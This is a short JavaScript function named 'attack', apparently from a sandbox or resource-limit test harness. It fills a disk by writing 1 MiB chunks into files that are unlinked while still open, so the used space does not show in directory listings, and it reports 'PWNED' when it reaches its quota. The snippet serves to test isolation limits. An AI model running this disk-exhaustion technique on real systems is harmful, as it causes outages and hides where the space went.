async function attack(world) {
  const chunk = Buffer.alloc(1 << 20, 1);
  let mib = 0;
  try {
    while (mib < world.diskMib) {
      const file = fs.openSync("gone", "w");
      fs.unlinkSync("gone");
      for (let n = 0; n < 200; n++, mib++) fs.writeSync(file, chunk);
    }
    await sleep(1500);
    note(`PWNED, ${mib} MiB`);
  } catch (error) {
    note(`${error.code} after ${mib} MiB`);
  }
}
